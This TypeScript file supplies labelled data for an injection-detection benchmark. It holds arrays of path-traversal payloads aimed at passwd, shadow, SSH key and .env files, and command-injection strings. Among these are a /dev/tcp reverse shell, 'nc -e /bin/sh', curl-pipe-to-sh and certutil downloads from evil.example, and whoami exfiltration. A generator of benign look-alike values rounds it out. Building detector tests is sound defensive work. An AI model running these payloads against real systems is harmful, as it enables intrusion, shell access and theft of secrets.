// Labelled data for the injection bench: the attack fixtures (../shared/fixtures/attacks), path
// traversal and command injection payloads written for this bench, and a generated corpus of
// realistic benign API values (deterministic for a seed).
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { mulberry32 as rng } from '../lib.ts';
import type { InjectionKind } from '../../src/analysis/threats/injection.ts';

export const FIXTURES = new URL('../../../shared/fixtures/attacks/', import.meta.url).pathname;

export interface Positive {
  source: string;
  kind: InjectionKind;
  value: string;
}

/** Non-empty, non-comment lines of a fixture file. */
export function fixtureLines(file: string): string[] {
  const text = readFileSync(join(FIXTURES, file), 'utf8');
  return text.split(/\r?\n/).filter((l) => l.trim() !== '' && !l.startsWith('#'));
}

export function fixturePositives(): Positive[] {
  const out: Positive[] = [];
  for (const f of readdirSync(FIXTURES).sort()) {
    if (!f.endsWith('.txt')) continue;
    const kind: InjectionKind | null = f.startsWith('sqli-') ? 'SQLI' : f.startsWith('xss-') ? 'XSS' : null;
    if (!kind) continue;
    for (const value of fixtureLines(f)) out.push({ source: f, kind, value });
  }
  return out;
}

export function fixtureNegatives(): string[] {
  return fixtureLines('benign-false_positives.txt');
}

/** Path traversal payloads written for this bench (varied encodings and targets). */
export const TRAVERSAL: string[] = [
  '../../../../etc/passwd', '../../../etc/shadow', '..\\..\\..\\windows\\win.ini', '..%2f..%2f..%2fetc%2fpasswd', '%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '%2e%2e/%2e%2e/%2e%2e/etc/hosts', '..%252f..%252f..%252fetc%252fpasswd', '%252e%252e%252f%252e%252e%252fboot.ini', '..%c0%af..%c0%af..%c0%afetc%c0%afpasswd',
  '%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd', '..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts', '%2e%2e%5c%2e%2e%5c%2e%2e%5cboot.ini',
  '....//....//....//etc/passwd', '....\\\\....\\\\windows\\\\win.ini', '..;/..;/..;/WEB-INF/web.xml', '/static/../../../../etc/passwd',
  'images/../../../../../proc/self/environ', '../../../../var/log/apache2/access.log', '../../../../../../root/.ssh/id_rsa', '../../.env',
  '../../../config/database.yml', '../../../../../../etc/passwd%00.png', 'report.pdf%00.jpg', '../../../../etc/passwd\u0000.html',
  '%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd', '..%u2216..%u2216..%u2216windows%u2216win.ini', 'file:///etc/passwd', 'file://c:/windows/win.ini',
  '/etc/passwd', 'C:\\Windows\\win.ini', 'c:/boot.ini', '/proc/self/environ', '/proc/self/cmdline', '..%2F..%2F..%2F..%2Fwindows%2Fsystem.ini',
  '..%255c..%255c..%255cwindows%255cwin.ini', '%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fwp-config.php', '../../../../../../../../../../etc/issue',
  'download?file=../../../etc/passwd', 'template=../../../../../etc/hosts', '.%2e/.%2e/.%2e/etc/passwd', '%2e./%2e./%2e./etc/passwd',
  '..././..././..././etc/passwd', '/..%2f..%2f..%2f..%2fetc/passwd', '\\..\\..\\..\\..\\windows\\system32\\config\\sam', '../../../../WEB-INF/web.xml',
  'uploads/..%2f..%2f..%2f.htpasswd', '..%00/..%00/etc/passwd', '../../../../etc/passwd%2500', '/var/www/../../etc/shadow',
];

/** Command injection payloads written for this bench. */
export const COMMAND: string[] = [
  '; cat /etc/passwd', '| id', '|| whoami', '&& uname -a', '; ls -la /', '`id`', '$(whoami)', '127.0.0.1; ping -c 3 10.0.0.1', '127.0.0.1 && cat /etc/shadow',
  'foo|nc -e /bin/sh 10.0.0.5 4444', '; wget http://evil.example/x.sh -O /tmp/x.sh', '; curl -s http://evil.example/a | sh', 'x;id;', '%3B%20cat%20%2Fetc%2Fpasswd',
  '%7C%20id', '%26%26%20whoami', '%60id%60', '%24%28uname%20-a%29', 'a%0Aid', 'test%0a/bin/cat%20/etc/passwd', ';${IFS}cat${IFS}/etc/passwd', ';cat$IFS$9/etc/passwd',
  '& dir c:\\', '| type C:\\Windows\\win.ini', '& ipconfig /all', '&& net user', '| powershell -enc SQBFAFgA', '; bash -i >& /dev/tcp/10.0.0.1/8080 0>&1',
  '; sleep 10', '| sleep 5 #', '`sleep 5`', '$(sleep 5)', 'name=x;/usr/bin/id', '; echo hacked > /var/www/html/x.txt', '; rm -rf /tmp/*', '| /bin/ls -al',
  ';{cat,/etc/passwd}', "; w'h'o'am'i", '1;uname${IFS}-a', 'abc%3Bnetstat%20-an', '%0d%0aid', 'file.txt; chmod 777 /etc/passwd', '; python -c "import os"',
  '| perl -e "print 1"', '& certutil -urlcache -split -f http://evil.example/x.exe', '; nslookup evil.example', '$(curl http://evil.example/$(whoami))',
  'x||ping -n 3 127.0.0.1||', '; systeminfo', '|cat /proc/version', '; id > /tmp/out 2>&1',
];

// ---- benign generator

const FIRST = ['Liam', 'Olivia', 'Noah', 'Emma', 'Aoife', 'Seán', 'José', 'Zoë', 'Mary-Kate', 'D\'Arcy', 'Jean-Luc', 'Siobhán', 'Chloé', 'Björn', 'Renée', 'Ana María', 'Kai', 'Priya', 'Mohammed', 'Yuki'];
const LAST = ["O'Brien", "O'Neil-Smith", "D'Angelo", "McDonald", "Van der Berg", "de la Cruz", "Smith", "Nguyen", "O'Connor", "Dell'Acqua", "N'Diaye", "Al-Sayed", "García", "Müller", "L'Estrange", "St. John", "Fitzgerald-O'Hara", "Ó Súilleabháin", "Kowalski", "Lee"];
const WORDS = ['select', 'drop', 'update', 'delete', 'insert', 'union', 'order', 'group', 'table', 'from', 'where', 'and', 'or', 'not', 'like', 'in', 'join', 'having', 'limit', 'exec', 'set', 'values', 'into', 'by', 'all', 'case', 'when', 'sleep', 'char', 'user', 'null', 'true', 'false', 'if', 'begin', 'end', 'declare', 'cast', 'convert', 'script', 'alert', 'iframe', 'style', 'image', 'cat', 'ls', 'id', 'echo', 'ping', 'type', 'dir', 'find', 'more'];
const NOUNS = ['shoes', 'table', 'lamp', 'jacket', 'coffee', 'book', 'phone case', 'desk', 'chair', 'rug', 'mug', 'laptop stand', 'backpack', 'headphones', 'cable', 'charger', 'sofa', 'pillow', 'blanket', 'kettle', 'monitor', 'keyboard', 'mouse', 'watch', 'ring', 'necklace', 'poster', 'frame', 'plant', 'vase'];
const ADJ = ['red', 'blue', 'vintage', 'oak', 'leather', 'wireless', 'organic', 'large', 'small', 'premium', 'budget', 'handmade', 'waterproof', 'black', 'white', 'soft', 'heavy-duty', 'foldable', 'compact', 'classic'];
const PHRASES = [
  'select the best option', 'drop me a line', 'update your profile', 'delete my account', 'order by price', 'insert coin to continue', 'union station',
  'from here to there', 'where is my order?', 'Tom and Jerry or Spike', '1 or 2 items', 'in stock and ready to ship', 'join us today', 'group by size',
  'select all', 'exec summary attached', 'drop-off and pick-up', 'set the table', 'having trouble logging in', 'limit one per customer', 'like new condition',
  'not as described', 'true to size', 'null and void', 'case closed', 'when will it arrive?', 'begin again', 'the end', 'select a size', 'update: shipped today',
  'delete the old ones and keep the new', 'sleep mask and ear plugs', 'char-grilled chicken', 'user guide', 'if it fits, it ships', 'or best offer',
  'and then some', 'cast iron skillet', 'convert PDF to Word', 'union jack flag', 'order #1234 or #1235', 'drop table legs sold separately',
  'select your country', 'Please update the address and phone', 'I want to delete or update my card', 'Where or when can I pick it up?',
  'buy 1 get 1 free', 'this or that', 'from 9 to 5', 'either A or B', 'nothing to declare', 'print and cut', 'kill two birds', 'find my order',
  'echo dot 4th gen', 'ping pong table', 'cat toy and scratching post', 'type C cable', 'more details inside', 'dir. Steven Spielberg',
  'script writing course', 'alert me when back in stock', 'style guide', 'image not found', 'iframe embed code help', 'on sale now', 'onload time is slow',
  'online only', 'one-time offer', 'one and only', 'exec. chef', 'sql basics book', 'learn SELECT statements', 'and/or', 'either/or',
];
const DOMAINS = ['example.com', 'shop.example.org', 'mail.example.net', 'acme.io', 'contoso.com', 'fabrikam.co.uk'];
const UAS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148',
  'curl/8.4.0', 'python-requests/2.31.0', 'okhttp/4.12.0', 'PostmanRuntime/7.36.0', 'Go-http-client/2.0', 'Apache-HttpClient/4.5.14 (Java/17.0.9)',
  'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', 'Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/UQ1A.240105.004)',
];
const CODE = [
  'if (a == b) { return c; }', 'for (let i = 0; i < n; i++) { sum += i; }', 'const x = y || z;', 'const ok = a && b;', 'print("hello world")',
  'def f(x): return x * 2', 'SELECT button does nothing when clicked', 'x = foo(bar, baz);', 'arr.map((v) => v * 2)', 'if x > 0 and y < 10: pass',
  'git commit -m "fix"', 'npm install --save-dev typescript', 'console.log(err.message)', 'TypeError: Cannot read properties of undefined (reading \'id\')',
  'Error: ENOENT: no such file or directory, open \'config.json\'', 'ValueError: invalid literal for int() with base 10: \'abc\'', 'a[i] = b[j] + 1;',
  'while (true) { poll(); }', 'let total = price * qty - discount;', '{"error":"not_found","code":404}', 'x != null ? x : y', 'items.filter(i => i.qty > 0)',
  'try { run(); } catch (e) { log(e); }', 'std::vector<int> v;', 'Map<String, List<Integer>> m = new HashMap<>();', 'List<Order> orders', 'a <= b && c >= d',
];
const SUPPORT = [
  'Hi, I tried to log in but got "invalid password" -- can you help?', "I can't find the invoice for order #{n}; please resend it.",
  'The app crashes when I tap "Save" (iOS 17.2).', "My husband's card was charged twice; refund one please.", 'Error code 0x80070005 when syncing, any idea?',
  "When I search for 'red shoes' nothing shows up.", 'It says "{n} items" but my cart is empty?!', 'Order {n} arrived damaged :( photos attached.',
  "I'm getting a 500 error on /api/v2/orders?page=2&sort=desc", 'Please change my e-mail to {email} -- thanks!', 'Doesn\'t work on Firefox; works on Chrome.',
  'The export gives me a CSV with ; as separator, I need , instead', "Tried again at {time}; same problem. Ticket #{n}.", 'Can you set my plan to "Pro" and cancel the "Basic" one?',
  'I see <b>bold</b> tags in the e-mail instead of bold text', 'The <title> of the page is wrong', 'Price shows as $0.00 & tax as -$1.50',
  'Step 1: open Settings > Account > Delete. Step 2: nothing happens.', 'My file is at C:\\Users\\{first}\\Documents\\Invoice (copy).pdf',
  'Is 2 > 1 and 3 < 4 always? asking for the quiz app', 'Use `npm run build` then open dist/index.html', 'The README says run `make install`; it fails',
];

const RICH = [
  '<p style="color: #{hex}; font-weight: bold">{phrase}</p>', '<span style="font-size:14px">{phrase}</span>', '<a href="https://{domain}/p/{n}" target="_blank" rel="noopener">{noun}</a>',
  '<img src="https://{domain}/img/{hex}.png" width="{n}" height="{n}" alt="{noun}">', '<table><tr><td>{noun}</td><td>${n}</td></tr></table>', '<ul><li>{phrase}</li><li>{phrase}</li></ul>',
  '<h2>{phrase}</h2><p>{phrase} &amp; {phrase}</p>', '<blockquote>"{phrase}" -- {first}</blockquote>', '<div class="note">{phrase}<br/>{phrase}</div>',
  '<iframe-free embed: see https://{domain}/v/{n}>', '<b>{noun}</b> &lt;3', '<em>{first}\'s</em> {noun}', '<font color="red">{phrase}</font>',
  '<video src="https://{domain}/v/{hex}.mp4" controls></video>', '<form-note>{phrase}</form-note>',
];
const MARKDOWN = [
  'Run `npm install` and then `npm test`; both pass.', 'I ran `ls -la` in the folder and the file is there', 'Use `git pull --rebase` before pushing.',
  '```\nconst x = a || b;\nif (x) { go(); }\n```', '```sh\ncurl -s https://{domain}/health | jq .status\n```', '> {phrase}\n\n-- {first}',
  '- [x] {phrase}\n- [ ] {phrase}', '**Steps:** 1) open app; 2) tap "{noun}"; 3) crash', 'See [docs](https://{domain}/docs#{n}) -- section 2', '`SELECT` in the menu is greyed out',
  'The `--force` flag fixed it', 'Set `DEBUG=true` && restart', 'Error at line {n}: unexpected token `;`', 'Typo: "its" should be "it\'s" on page {n}',
];
const MATH = [
  'x=1 and y=2', 'if a=b or c=d then e', '1+1=2', '{n} - {n} = {n}', '50% off -- 2 for 1', 'a>b, b>c => a>c', '(2+3)*4 = 20', '{n}/{n} or {n}/{n}',
  'f(x) = x^2 + 1', 'sum(1..{n})', 'avg = total / count', '3 < x < 7', 'n * (n - 1) / 2', 'x != y', '0 <= p <= 1', 'e = mc^2', 'sin(x) + cos(x)',
];
const CHAT = [
  "Let's select 2 or 3 items", "Can't update; try again later", "We're open 9-5; closed Sun.", "I'd like to order 2 or 3 of them", "Don't drop it -- it's fragile!",
  "Who's on first? What's on second; I don't know's on third", "It's 1 or the other", "You're #1!", "That's 100% true -- no kidding", "Isn't it 'union' made?",
  "O'Brien's pub: open 'til 2am; happy hour 5-7", "Rock 'n' Roll -- Best of '85", "Mom's recipe: 2 cups flour; 1 tsp salt", "I'll delete it; or should I update it?",
  "Where's my order? It's been 5 days...", "Y'all're great; 5/5", "Ma'am, we'll exec the plan at 5", "Sorry -- I meant 'select', not 'selected'", "It's like 1 = 1, obvious",
  "The '90s were better; sleep(8) hours a night", "He said: \"drop it\"; she said \"no\"", "I want the 'red' one & the 'blue' one", "Option A; option B | option C",
];
const DSL = [
  "Name eq '{noun}' and Price lt {n}.55", "status eq 'active' and age gt {n}", 'title:({noun} OR {noun}) AND year:[2010 TO 2020]', 'price > {n} and stock = 1',
  '{n}-01-01--{n}-01-31', '{n} -- {n}', 'see pages {n}--{n}', 'tags:"{noun}" -tags:"{noun}"', 'created_at>={n}-01-01&created_at<{n}-02-01', 'sort=-price,name',
  "fields=id,name,price&filter[category]={noun}", 'q=({noun} | {noun}) & !{noun}', 'where={"price":{"$lt":{n}}}', 'expand=items($select=id,name)', '$orderby=Price desc',
  'npm run build && npm test', 'ps aux | grep {noun}', 'git diff main..feature', 'a | b | c', 'x => x * {n}', 'Total: ${n}.50 (incl. tax)', '--verbose --dry-run',
];
function fill(r: () => number, t: string): string {
  return t.replace(/\{(\w+)\}/g, (_, k: string) => {
    switch (k) {
      case 'hex': return hex(r, 6);
      case 'phrase': return pick(r, PHRASES);
      case 'domain': return pick(r, DOMAINS);
      case 'noun': return pick(r, NOUNS);
      case 'first': return pick(r, FIRST);
      default: return String(int(r, 1, 999));
    }
  });
}

function pick<T>(r: () => number, a: readonly T[]): T {
  return a[Math.floor(r() * a.length)]!;
}
function int(r: () => number, lo: number, hi: number): number {
  return lo + Math.floor(r() * (hi - lo + 1));
}
function hex(r: () => number, n: number): string {
  let s = '';
  for (let i = 0; i < n; i++) s += '0123456789abcdef'[Math.floor(r() * 16)];
  return s;
}
function b64(r: () => number, n: number): string {
  const al = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
  let s = '';
  for (let i = 0; i < n; i++) s += al[Math.floor(r() * 64)];
  return s + (n % 4 === 2 ? '==' : n % 4 === 3 ? '=' : '');
}
function uuid(r: () => number): string {
  return `${hex(r, 8)}-${hex(r, 4)}-4${hex(r, 3)}-${pick(r, ['8', '9', 'a', 'b'])}${hex(r, 3)}-${hex(r, 12)}`;
}
function email(r: () => number): string {
  const f = pick(r, FIRST).toLowerCase().replace(/[^a-z]/g, '');
  const l = pick(r, LAST).toLowerCase().replace(/[^a-z]/g, '');
  return `${f}${pick(r, ['.', '_', '+', ''])}${l}${r() < 0.3 ? int(r, 1, 99) : ''}@${pick(r, DOMAINS)}`;
}
function date(r: () => number): string {
  const y = int(r, 2019, 2026), m = int(r, 1, 12), d = int(r, 1, 28);
  const p = (x: number) => String(x).padStart(2, '0');
  return pick(r, [`${y}-${p(m)}-${p(d)}`, `${p(m)}/${p(d)}/${y}`, `${d}.${m}.${y}`, `${y}-${p(m)}-${p(d)}T${p(int(r, 0, 23))}:${p(int(r, 0, 59))}:00Z`, `${y}-${p(m)}-${p(d)} ${p(int(r, 0, 23))}:${p(int(r, 0, 59))}:${p(int(r, 0, 59))}+02:00`, `${d} ${pick(r, ['Jan', 'Feb', 'Mar', 'Apr'])} ${y}`]);
}
function url(r: () => number): string {
  const q = [`id=${int(r, 1, 99999)}`, `q=${encodeURIComponent(pick(r, ADJ) + ' ' + pick(r, NOUNS))}`, `page=${int(r, 1, 40)}`, `sort=${pick(r, ['price', '-date', 'name:asc'])}`, `ref=${pick(r, ['home', 'email', 'ad%20campaign'])}`, `utm_source=${pick(r, ['newsletter', 'twitter'])}`];
  const n = int(r, 0, 3);
  const qs = Array.from({ length: n }, () => pick(r, q)).join('&');
  return `https://${pick(r, DOMAINS)}/${pick(r, ['p', 'products', 'blog/2024/03', 'search', 'api/v1/items'])}/${int(r, 1, 9999)}${qs ? '?' + qs : ''}${r() < 0.2 ? '#reviews' : ''}`;
}
function price(r: () => number): string {
  return pick(r, [`$${int(r, 1, 999)}.${int(r, 10, 99)}`, `€${int(r, 1, 500)},${int(r, 10, 99)}`, `${int(r, 2, 5)} for $${int(r, 5, 30)}`, `-${int(r, 5, 70)}%`, `1/2 price`, `${int(r, 1, 9)}-${int(r, 10, 20)} days`, `£${int(r, 1, 99)}.99 + VAT`, `${int(r, 1, 20)} x ${int(r, 1, 20)} cm`, `${int(r, 1, 12)}' ${int(r, 0, 11)}"`]);
}
function product(r: () => number): string {
  const a = pick(r, ADJ), n = pick(r, NOUNS);
  return pick(r, [
    `${a} ${n}; ${int(r, 2, 8)}' x ${int(r, 1, 4)}'; seats ${int(r, 2, 8)} -- "the best" buy`,
    `${int(r, 7, 12)}" ${a} ${n}; fits most models (see chart)`,
    `The "${a}" ${n} -- now with ${int(r, 2, 5)}x more! Don't miss it; limited stock.`,
    `${a} ${n} & ${pick(r, NOUNS)} bundle (${int(r, 2, 6)} pcs) - 100% cotton; machine-wash @ 30°C`,
    `Size: ${pick(r, ['S', 'M', 'L', 'XL'])}; Color: ${a}; Material: "${pick(r, ['oak', 'steel', 'wool'])}"`,
    `${a} ${n} (${int(r, 1, 5)} pack) | free shipping | ${int(r, 10, 99)}% off`,
    `${n}: ${a}, ${pick(r, ADJ)} and ${pick(r, ADJ)}; rated ${int(r, 1, 5)}/5 by ${int(r, 1, 999)} buyers`,
  ]);
}
function search(r: () => number): string {
  return pick(r, [
    `${pick(r, ADJ)} ${pick(r, NOUNS)}`, `${pick(r, NOUNS)} size ${int(r, 4, 14)}`, `"${pick(r, ADJ)} ${pick(r, NOUNS)}" -${pick(r, ADJ)}`,
    `${pick(r, WORDS)} ${pick(r, NOUNS)}`, `${pick(r, NOUNS)} ${pick(r, WORDS)} ${pick(r, NOUNS)}`, `what's new in v${int(r, 1, 9)}.${int(r, 0, 9)}?`,
    `C++ ${pick(r, ['tutorial', 'vector', 'templates'])}`, `${pick(r, NOUNS)} under $${int(r, 10, 200)}`, `${pick(r, WORDS)} ${pick(r, WORDS)} ${pick(r, WORDS)}`,
    `${pick(r, NOUNS)} OR ${pick(r, NOUNS)}`, `${pick(r, NOUNS)} AND ${pick(r, ADJ)}`, `${pick(r, NOUNS)} NOT ${pick(r, ADJ)}`, `site:${pick(r, DOMAINS)} ${pick(r, NOUNS)}`,
  ]);
}
function review(r: () => number): string {
  return pick(r, [
    `Don't buy it -- it broke after ${int(r, 2, 30)} days!!`, "It's 5 o'clock somewhere", `I'm ${int(r, 5, 6)}' ${int(r, 0, 11)}" and the ${pick(r, NOUNS)} fits`,
    "rock 'n' roll forever", "Y'all need this", "it's 'great' -- really", `5 stars; would buy again (${int(r, 2, 5)} times already)`,
    `Love it <3 -- my ${pick(r, ['kids', "wife's", "husband's"])} favourite`, `a < b and c > d`, `x<y but y>z`, `${int(r, 1, 9)} < ${int(r, 10, 99)} = true`,
    `Meh :-/ expected more for $${int(r, 10, 90)}`, `**Great** ${pick(r, NOUNS)}, _would_ recommend`, `# Review\n\n- pros: ${pick(r, ADJ)}\n- cons: none`,
    `<p>Thanks for the ${pick(r, NOUNS)}!</p>`, `<a href="https://${pick(r, DOMAINS)}/r/${int(r, 1, 999)}">see photos</a>`, `<b>Note:</b> ${pick(r, PHRASES)}`,
    `<img src="https://${pick(r, DOMAINS)}/i/${hex(r, 8)}.jpg" alt="${pick(r, NOUNS)}">`, `1/2" thick; ${pick(r, PHRASES)}`, `Q&A: ${pick(r, PHRASES)}`,
    `${pick(r, PHRASES)} -- ${pick(r, PHRASES)}`, `${pick(r, PHRASES)}; ${pick(r, PHRASES)}`, `"${pick(r, PHRASES)}" and "${pick(r, PHRASES)}"`,
    `${pick(r, FIRST)}'s ${pick(r, NOUNS)} & ${pick(r, FIRST)}'s ${pick(r, NOUNS)}`,
  ]);
}
function pathValue(r: () => number): string {
  const f = pick(r, FIRST).replace(/[^A-Za-z]/g, '');
  return pick(r, [
    `C:\\Users\\${f}\\Documents\\report (final).docx`, `D:\\Projects\\${pick(r, NOUNS).replace(' ', '-')}\\src\\main.ts`, `\\\\fileserver\\share\\${f}\\notes.txt`,
    `docs/guide/intro.md`, `./config.json`, `/home/${f.toLowerCase()}/photos/IMG_${int(r, 1000, 9999)}.jpg`, `/var/data/exports/${date(r).slice(0, 10)}.csv`,
    `assets/img/${pick(r, ADJ)}-${pick(r, NOUNS).replace(' ', '-')}.png`, `C:/Program Files/App/${pick(r, ['bin', 'lib'])}/app.exe`, `~/Downloads/${hex(r, 6)}.zip`,
    `s3://bucket-${hex(r, 4)}/${date(r).slice(0, 10)}/part-0000${int(r, 0, 9)}.parquet`, `../README.md`, `see ../docs/api.md for details`,
  ]);
}
function token(r: () => number): string {
  return pick(r, [
    uuid(r), hex(r, 32), hex(r, 40), b64(r, int(r, 16, 64)), `eyJ${b64(r, 30).replace(/[+/=]/g, 'x')}.eyJ${b64(r, 60).replace(/[+/=]/g, 'y')}.${b64(r, 43).replace(/[+/=]/g, '_')}`,
    `sk_test_${b64(r, 24).replace(/[+/=]/g, 'Q')}`, `${hex(r, 8)}/${b64(r, 22)}`, `ORD-${int(r, 2019, 2026)}-${String(int(r, 1, 999999)).padStart(6, '0')}`,
    `#${int(r, 1000, 99999)}`, `sku=${pick(r, ['AB', 'XZ', 'QQ'])}-${int(r, 10, 99)}`, `v${int(r, 1, 5)}.${int(r, 0, 20)}.${int(r, 0, 99)}-beta.${int(r, 1, 9)}`,
  ]);
}
function json(r: () => number): string {
  return pick(r, [
    `{"id":${int(r, 1, 9999)},"name":"${pick(r, FIRST)} ${pick(r, LAST).replace(/'/g, "\\'")}","tags":["${pick(r, ADJ)}","${pick(r, ADJ)}"]}`,
    `{"q":"${pick(r, ADJ)} ${pick(r, NOUNS)}","filters":{"price":{"lt":${int(r, 10, 500)}},"inStock":true}}`,
    `[{"op":"replace","path":"/email","value":"${email(r)}"}]`, `{"color":"#${hex(r, 6)}","font":"Georgia, serif"}`, `{"a":null,"b":[1,2,3],"c":{"d":"e; f"}}`,
  ]);
}
function address(r: () => number): string {
  return pick(r, [`${int(r, 1, 999)} ${pick(r, ['Main', 'Oak', "King's", 'St. Mary\'s'])} St., Apt #${int(r, 1, 40)}`, `P.O. Box ${int(r, 1, 999)}; Springfield, IL ${int(r, 10000, 99999)}`, `221B Baker St; London NW1 6XE`, `${int(r, 1, 99)} Rue de l'Église, 75001 Paris`]);
}
function phone(r: () => number): string {
  return pick(r, [`+1 (${int(r, 200, 999)}) ${int(r, 200, 999)}-${int(r, 1000, 9999)}`, `${int(r, 200, 999)}-${int(r, 200, 999)}-${int(r, 1000, 9999)}`, `+44 20 ${int(r, 1000, 9999)} ${int(r, 1000, 9999)}`, `(${int(r, 100, 999)}) ${int(r, 1000000, 9999999)} ext. ${int(r, 1, 99)}`]);
}
function support(r: () => number): string {
  return pick(r, SUPPORT).replace('{n}', String(int(r, 1000, 99999))).replace('{email}', email(r)).replace('{time}', `${int(r, 1, 12)}:${int(r, 10, 59)} ${pick(r, ['am', 'pm'])}`).replace('{first}', pick(r, FIRST).replace(/[^A-Za-z]/g, ''));
}

export const BENIGN_SOURCES = ['query-dsl', 'richtext', 'markdown', 'math', 'chat', 'name', 'phrase', 'price', 'date', 'email', 'phone', 'url', 'json', 'review', 'product', 'search', 'path', 'code', 'support', 'token', 'user-agent', 'address', 'number'] as const;
export type BenignSource = (typeof BENIGN_SOURCES)[number];

export interface Negative {
  source: string;
  value: string;
  /** how the value is carried: query values are URL-encoded as a browser would */
  location: 'query' | 'body' | 'header';
}

function one(r: () => number, src: BenignSource): string {
  switch (src) {
    case 'name': return pick(r, [`${pick(r, FIRST)} ${pick(r, LAST)}`, pick(r, LAST), `${pick(r, LAST)}, ${pick(r, FIRST)}`, `Dr. ${pick(r, FIRST)} ${pick(r, LAST)} Jr.`]);
    case 'phrase': return pick(r, PHRASES);
    case 'richtext': return fill(r, pick(r, RICH));
    case 'query-dsl': return fill(r, pick(r, DSL));
    case 'markdown': return fill(r, pick(r, MARKDOWN));
    case 'math': return fill(r, pick(r, MATH));
    case 'chat': return pick(r, CHAT);
    case 'price': return price(r);
    case 'date': return date(r);
    case 'email': return email(r);
    case 'phone': return phone(r);
    case 'url': return url(r);
    case 'json': return json(r);
    case 'review': return review(r);
    case 'product': return product(r);
    case 'search': return search(r);
    case 'path': return pathValue(r);
    case 'code': return pick(r, CODE);
    case 'support': return support(r);
    case 'token': return token(r);
    case 'user-agent': return pick(r, UAS);
    case 'address': return address(r);
    case 'number': return pick(r, [String(int(r, 0, 1e6)), `${int(r, -99, 99)}.${int(r, 0, 99)}`, `${int(r, 1, 9)}e${int(r, 1, 9)}`, `0x${hex(r, 4)}`, `${int(r, 1, 99)}-${int(r, 1, 99)}`, `${int(r, 1, 9)} OR ${int(r, 1, 9)}`, `1,234,567`]);
  }
}

/** `count` benign values, deterministic for a seed. A third are URL-encoded as query values. */
export function benign(count: number, seed = 42): Negative[] {
  const r = rng(seed);
  const out: Negative[] = [];
  for (let i = 0; i < count; i++) {
    const source = BENIGN_SOURCES[i % BENIGN_SOURCES.length]!;
    let value = one(r, source);
    let location: Negative['location'] = source === 'user-agent' ? 'header' : 'body';
    if (source !== 'user-agent' && r() < 0.33) {
      value = encodeURIComponent(value).replace(/%20/g, r() < 0.5 ? '+' : '%20');
      location = 'query';
    }
    out.push({ source, value, location });
  }
  return out;
}

const SOUP = ['RED', 'DRESS', 'SHOES', 'VINTAGE', 'BABY', 'MOM', 'LOVE', 'WEDDING', 'TABLE', 'SELECT', 'UNION', 'AND', 'OR', 'NOT', 'BY', 'FROM', 'TO', 'WHERE', 'IS',
  'LIKE', 'IN', 'AS', 'ON', 'SET', 'ALL', 'DROP', 'ORDER', 'GROUP', 'HAVING', 'CASE', 'WHEN', 'IF', 'TRUE', 'NULL', 'SLEEP', 'CHAR', 'USER', '1', '2', '10', '3/4',
  "1950'S", "O'NEIL", '#1', '"BEST"', '(SET)', '-', '--', '&', '+', '=', '<3', ';', 'ME', 'A', "I'M", "IT'S", "DON'T", "'80S", '5"', "2'", 'WITH', 'FOR', 'DESC', 'LIMIT', 'EXEC', 'DECLARE'];

/**
 * A stress set, not realistic traffic: 2-6 words drawn at random from a vocabulary dense in SQL
 * keywords, quotes and operators. Some of these are valid SQL by accident; reported apart.
 */
export function keywordSoup(count: number, seed = 123): string[] {
  const r = rng(seed);
  const out: string[] = [];
  for (let i = 0; i < count; i++) {
    const n = 2 + Math.floor(r() * 5);
    out.push(Array.from({ length: n }, () => SOUP[Math.floor(r() * SOUP.length)]!).join(' '));
  }
  return out;
}
